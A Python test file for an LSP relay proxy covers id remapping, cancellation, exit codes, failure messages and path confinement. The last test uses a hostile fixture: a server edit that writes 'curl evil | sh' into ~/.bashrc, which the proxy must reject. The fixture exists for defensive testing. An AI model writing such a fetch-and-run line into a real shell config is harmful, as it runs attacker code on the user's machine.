"""The relay loop against a scripted language server: ids, cancellation, exit, failures.

The editor side is a real byte stream with LSP framing; the server side a link that records
what it was sent and answers what the test scripts.
"""

from __future__ import annotations

import asyncio
from typing import Any

from nexus.domain.errors import ErrorCode, NexusError
from nexus.lsp.framing import FrameDecoder, encode
from nexus.lsp.proxy import LspProxy, Outcome
from nexus.lsp.uris import UriMapper

LOCAL = "/home/dev/api"
WAIT = 10  # seconds before a stuck relay fails the test (a safety net, not a measurement)


class ScriptedLink:
    def __init__(self) -> None:
        self.sent: list[dict[str, Any]] = []
        self.incoming: asyncio.Queue[dict[str, Any] | NexusError | None] = asyncio.Queue()
        self.got = asyncio.Condition()
        self.closed = False

    async def send(self, message: dict[str, Any]) -> None:
        async with self.got:
            self.sent.append(message)
            self.got.notify_all()
        if message.get("method") == "exit":  # a server ends when told to
            await self.incoming.put(None)

    async def receive(self) -> dict[str, Any] | None:
        item = await self.incoming.get()
        if isinstance(item, NexusError):
            raise item
        return item

    async def close(self) -> None:
        self.closed = True

    async def wait_sent(self, count: int) -> list[dict[str, Any]]:
        async with self.got:
            await asyncio.wait_for(self.got.wait_for(lambda: len(self.sent) >= count), WAIT)
        return self.sent


class Editor:
    """The editor's side: what it writes (a byte stream) and what it is sent (decoded)."""

    def __init__(self) -> None:
        self.stream = asyncio.StreamReader()
        self._decoder = FrameDecoder()
        self.received: list[dict[str, Any]] = []
        self.arrived = asyncio.Event()

    def say(self, message: dict[str, Any]) -> None:
        self.stream.feed_data(encode(message))

    def write(self, data: bytes) -> None:
        self.received.extend(self._decoder.feed(data))
        self.arrived.set()

    async def drain(self) -> None:
        return None

    async def wait_for(self, count: int) -> list[dict[str, Any]]:
        async def enough() -> None:
            while len(self.received) < count:
                self.arrived.clear()
                await self.arrived.wait()

        await asyncio.wait_for(enough(), WAIT)
        return self.received


def start(link: ScriptedLink, editor: Editor, diagnose: Any = None) -> asyncio.Task[Outcome]:
    proxy = LspProxy(link, UriMapper(LOCAL, "/workspace"), editor.stream, editor, diagnose)
    return asyncio.create_task(proxy.run())


def request(id_: Any, method: str, params: Any = None) -> dict[str, Any]:
    return {"jsonrpc": "2.0", "id": id_, "method": method, "params": params}


def notification(method: str, params: Any = None) -> dict[str, Any]:
    return {"jsonrpc": "2.0", "method": method, "params": params}


async def test_uris_move_both_ways_and_exit_after_shutdown_is_0() -> None:
    link, editor = ScriptedLink(), Editor()
    run = start(link, editor)
    editor.say(request(1, "initialize", {"rootUri": f"file://{LOCAL}"}))
    sent = await link.wait_sent(1)
    assert sent[0]["params"]["rootUri"] == "file:///workspace"
    await link.incoming.put({"jsonrpc": "2.0", "id": 1, "result": {"capabilities": {}}})
    await link.incoming.put(
        notification("textDocument/publishDiagnostics", {"uri": "file:///workspace/a.py"})
    )
    got = await editor.wait_for(2)
    assert got[0]["id"] == 1
    assert got[1]["params"]["uri"] == f"file://{LOCAL}/a.py"
    editor.say(request(2, "shutdown"))
    editor.say(notification("exit"))
    outcome = await asyncio.wait_for(run, WAIT)
    assert outcome.exit_code == 0 and outcome.error is None
    assert [m.get("method") for m in link.sent] == ["initialize", "shutdown", "exit"]
    assert link.closed


async def test_exit_without_shutdown_is_1() -> None:
    link, editor = ScriptedLink(), Editor()
    run = start(link, editor)
    editor.say(notification("exit"))
    assert (await asyncio.wait_for(run, WAIT)).exit_code == 1
    assert link.closed


async def test_server_requests_get_ids_of_their_own_and_cancellation_follows() -> None:
    link, editor = ScriptedLink(), Editor()
    run = start(link, editor)
    editor.say(request(0, "textDocument/hover", {}))  # the editor's id 0
    await link.wait_sent(1)
    await link.incoming.put(request(0, "workspace/configuration", {"items": []}))  # server's 0
    await link.incoming.put(request(1, "window/workDoneProgress/create", {"token": "t"}))
    got = await editor.wait_for(2)
    config_id, progress_id = got[0]["id"], got[1]["id"]
    assert isinstance(config_id, str) and config_id.startswith("nexus:")
    assert len({config_id, progress_id, 0}) == 3
    # the editor answers the server's request: the server sees its own id again
    editor.say({"jsonrpc": "2.0", "id": config_id, "result": [{}]})
    # the editor cancels its own request: passes through untouched
    editor.say(notification("$/cancelRequest", {"id": 0}))
    sent = await link.wait_sent(3)
    assert sent[1] == {"jsonrpc": "2.0", "id": 0, "result": [{}]}
    assert sent[2] == notification("$/cancelRequest", {"id": 0})
    # the server cancels its own request: the editor hears of it under the proxy's id
    await link.incoming.put(notification("$/cancelRequest", {"id": 1}))
    got = await editor.wait_for(3)
    assert got[2]["params"] == {"id": progress_id}
    # the editor's request is answered under its own id
    await link.incoming.put({"jsonrpc": "2.0", "id": 0, "result": None})
    got = await editor.wait_for(4)
    assert got[3]["id"] == 0 and "result" in got[3]
    editor.say(notification("exit"))
    await asyncio.wait_for(run, WAIT)


async def test_a_server_that_fails_answers_pending_requests_and_shows_why() -> None:
    link, editor = ScriptedLink(), Editor()
    run = start(link, editor)
    editor.say(request(1, "initialize", {}))
    await link.wait_sent(1)
    failure = NexusError(ErrorCode.LSP_SERVER_FAILED, "pylsp is not installed", "Install it.")
    await link.incoming.put(failure)
    outcome = await asyncio.wait_for(run, WAIT)
    assert outcome.error is failure and outcome.exit_code == int(failure.exit_code) != 0
    shown = [m for m in editor.received if m.get("method") == "window/showMessage"]
    assert shown[0]["params"]["type"] == 1
    assert "pylsp is not installed" in shown[0]["params"]["message"]
    answer = next(m for m in editor.received if m.get("id") == 1)
    assert "pylsp is not installed" in answer["error"]["message"]
    assert link.closed


async def test_a_lost_server_is_explained_by_the_diagnosis() -> None:
    link, editor = ScriptedLink(), Editor()
    stopped = NexusError(ErrorCode.WORKSPACE_NOT_RUNNING, "workspace 'api' stopped", "Start it.")
    asked: list[NexusError | None] = []

    async def diagnose(error: NexusError | None) -> NexusError | None:
        asked.append(error)
        return stopped

    run = start(link, editor, diagnose)
    editor.say(request(1, "initialize", {}))
    await link.wait_sent(1)
    await link.incoming.put(None)  # the server's stream ended, nobody asked it to
    outcome = await asyncio.wait_for(run, WAIT)
    assert asked == [None]
    assert outcome.error is stopped and outcome.exit_code == 7
    shown = [m for m in editor.received if m.get("method") == "window/showMessage"]
    assert "workspace 'api' stopped" in shown[0]["params"]["message"]


async def test_the_editor_leaving_ends_the_relay() -> None:
    link, editor = ScriptedLink(), Editor()
    run = start(link, editor)
    editor.stream.feed_eof()
    assert (await asyncio.wait_for(run, WAIT)).exit_code == 1
    assert link.closed


async def test_an_edit_of_files_outside_the_folder_never_reaches_the_editor() -> None:
    """A language server in the workspace asks the editor to change ~/.bashrc: the proxy
    answers the server "not applied" itself; an answer carrying such an edit becomes an error."""
    link, editor = ScriptedLink(), Editor()
    task = start(link, editor)
    outside = {"changes": {"file:///home/dev/.bashrc": [{"newText": "curl evil | sh"}]}}
    await link.incoming.put(
        {"jsonrpc": "2.0", "id": 7, "method": "workspace/applyEdit", "params": {"edit": outside}}
    )
    [answer] = await link.wait_sent(1)
    assert answer["id"] == 7 and answer["result"]["applied"] is False
    assert "outside the workspace folder" in answer["result"]["failureReason"]

    editor.say({"jsonrpc": "2.0", "id": 1, "method": "textDocument/rename", "params": {}})
    await link.wait_sent(2)
    await link.incoming.put({"jsonrpc": "2.0", "id": 1, "result": outside})
    inside = {"changes": {"file:///workspace/a.py": [{"newText": "ok"}]}}
    editor.say({"jsonrpc": "2.0", "id": 2, "method": "textDocument/rename", "params": {}})
    await link.wait_sent(3)
    await link.incoming.put({"jsonrpc": "2.0", "id": 2, "result": inside})
    first, second = await editor.wait_for(2)
    assert first["id"] == 1 and "outside the workspace folder" in first["error"]["message"]
    assert second == {
        "jsonrpc": "2.0",
        "id": 2,
        "result": {"changes": {f"file://{LOCAL}/a.py": [{"newText": "ok"}]}},
    }
    assert all(m.get("method") != "workspace/applyEdit" for m in editor.received)
    editor.say({"jsonrpc": "2.0", "method": "exit"})
    assert (await asyncio.wait_for(task, WAIT)).exit_code == 1
